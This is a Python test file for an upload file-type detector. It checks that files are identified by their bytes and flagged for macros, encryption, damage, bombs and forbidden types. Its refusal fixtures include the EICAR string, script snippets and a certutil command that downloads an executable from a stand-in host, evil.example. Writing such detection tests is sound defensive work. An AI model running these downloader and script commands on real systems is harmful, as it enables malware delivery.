"""What a file is, told by its bytes; and what is wrong with it as a file."""

import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from syncd.memo import kinds
from syncd.model.document import FaultKind
from tests.memo import ole_file, paper
from tests.memo.office_files import packed, read
from tests.rig.clamd import EICAR

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def ole(*names: str) -> bytes:
    return OLE + b"".join(name.encode("utf-16-le") + b"\0\0" for name in names)


def png(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def told(tmp_path: Path, name: str, content: bytes) -> tuple[str, set[FaultKind]]:
    path = tmp_path / "spooled"
    path.write_bytes(content)
    kind = kinds.examine(path, name, len(content))
    return kind.name, {fault.kind for fault in kind.faults}


@pytest.mark.parametrize(
    ("name", "content", "kind", "faults"),
    [
        ("a.pdf", b"MZ\x90\0%PDF-1.7", "pdf", {FaultKind.FORBIDDEN_TYPE}),
        ("a.pdf", b"<html><script>\n%PDF-1.7", "pdf", {FaultKind.FORBIDDEN_TYPE}),
        ("a.pdf", b"%PDF-1.7\n%%EOF\nPK\x05\x06" + b"\0" * 18, "pdf", {FaultKind.FORBIDDEN_TYPE}),
        ("a.pdf", b"\xef\xbb\xbf\r\n%PDF-1.7", "pdf", set()),
        ("a.pdf", b"", "unknown", {FaultKind.EMPTY}),
        ("a.pdf", b"\0" * 5000, "unknown", {FaultKind.EMPTY}),
        ("a.txt", b" \r\n \r\n", "unknown", {FaultKind.EMPTY}),
        ("a.txt", "ประกาศ".encode(), "text", set()),
        ("a.txt", EICAR, "unknown", {FaultKind.FORBIDDEN_TYPE, FaultKind.WRONG_TYPE}),
        ("a.txt", b"The test file begins with " + EICAR, "text", set()),
        ("a.csv", "ชื่อ,คะแนน".encode("cp874"), "text", set()),
        ("a.txt", "ประกาศ".encode("utf-16"), "text", set()),
        ("a.docx", b"%PDF-1.4\n", "pdf", {FaultKind.WRONG_TYPE}),
        ("a.PDF", b"%PDF-1.4\n", "pdf", set()),
        ("a", b"%PDF-1.4\n", "pdf", {FaultKind.WRONG_TYPE}),
        ("a.doc", b"{\\rtf1\\ansi hello}", "rtf", set()),
        ("a.doc", ole("WordDocument"), "doc", set()),
        ("a.doc", ole("WordDocument", "Macros", "VBA"), "doc", {FaultKind.MACROS}),
        ("a.xls", ole("Workbook", "_VBA_PROJECT_CUR"), "xls", {FaultKind.MACROS}),
        ("a.docx", ole("EncryptedPackage"), "unknown", {FaultKind.ENCRYPTED}),
        ("a.hwp", ole("FileHeader"), "unknown", {FaultKind.FORBIDDEN_TYPE, FaultKind.DAMAGED}),
        (
            "a.exe",
            b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200,
            "unknown",
            {FaultKind.FORBIDDEN_TYPE},
        ),
        ("a.txt", b"alert(1)", "text", set()),
        ("a.js", b"alert(1)", "text", {FaultKind.FORBIDDEN_TYPE}),
        ("a.xml", b"<?xml version='1.0'?><a/>", "unknown", {FaultKind.FORBIDDEN_TYPE}),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "unknown", {FaultKind.FORBIDDEN_TYPE}),
        ("a.txt", b"<html><script>x</script></html>", "unknown", {FaultKind.FORBIDDEN_TYPE, FaultKind.WRONG_TYPE}),
        ("a.xls", b"<html><table></table></html>", "unknown", {FaultKind.FORBIDDEN_TYPE, FaultKind.WRONG_TYPE}),
        ("a.bin", b"\x01\x02\x03\x04" * 100, "unknown", {FaultKind.FORBIDDEN_TYPE}),
        ("a.png", png(100, 100), "png", set()),
        ("a.png", png(30_000, 30_000), "png", {FaultKind.BOMB}),
        ("a.docx", b"PK\x03\x04 broken", "zip", {FaultKind.DAMAGED, FaultKind.WRONG_TYPE}),
    ],
)
def test_a_file_is_told_by_its_bytes(tmp_path: Path, name: str, content: bytes, kind: str, faults: set[FaultKind]) -> None:
    assert told(tmp_path, name, content) == (kind, faults)


def test_an_ole_file_of_another_program_is_not_taken(tmp_path: Path) -> None:
    path = ole_file.write(tmp_path / "a.hwp", {"__properties": b"x"})
    assert told(tmp_path, "a.hwp", path.read_bytes()) == ("unknown", {FaultKind.FORBIDDEN_TYPE})


def test_a_zip_is_a_zip_and_parts_said_twice_are_damage(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.txt", "ก")
    assert told(tmp_path, "a.zip", path.read_bytes()) == ("zip", set())
    word = paper.write(tmp_path / "a.docx", ["ก"])
    with zipfile.ZipFile(word, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<other/>")
    assert told(tmp_path, "a.docx", word.read_bytes()) == ("docx", {FaultKind.DAMAGED})


def test_a_word_file_with_broken_parts_is_damaged(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document")
    assert {fault.kind for fault in paper.read(path).faults} == {FaultKind.DAMAGED}


@pytest.mark.parametrize(
    "content",
    [
        b"<hta:application/>",
        b"<PCSettings></PCSettings>",
        b"\r\n<job><script language='VBScript'>x</script></job>",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n",
        b"From: a@b.c\r\nMIME-Version: 1.0\r\n",
        b"WEB\r\n1\r\nhttps://evil.example/",
        b"ID;P\r\nC;X1;E=1",
        b"import os\nos.system('x')",
        b"var a = new ActiveXObject('x');",
        b"certutil -urlcache -f https://evil.example/a.exe a.exe",
        b"On Error Resume Next\r\nDim a",
        b'Set a = GetObject("winmgmts:")',
    ],
)
def test_a_text_that_a_program_runs_or_shows_as_a_page_is_refused(tmp_path: Path, content: bytes) -> None:
    assert FaultKind.FORBIDDEN_TYPE in {fault.kind for fault in read(tmp_path, "a.txt", content).faults}


@pytest.mark.parametrize("name", ["23_legacy.doc", "book97.xls"])
def test_a_zip_behind_a_file_of_office_97_is_refused(tmp_path: Path, name: str) -> None:
    content = (Path(__file__).parents[1] / "documents" / name).read_bytes()

    assert FaultKind.FORBIDDEN_TYPE not in {fault.kind for fault in read(tmp_path, name, content).faults}
    assert FaultKind.FORBIDDEN_TYPE in {fault.kind for fault in read(tmp_path, name, content + packed({"a.exe": "MZ"})).faults}
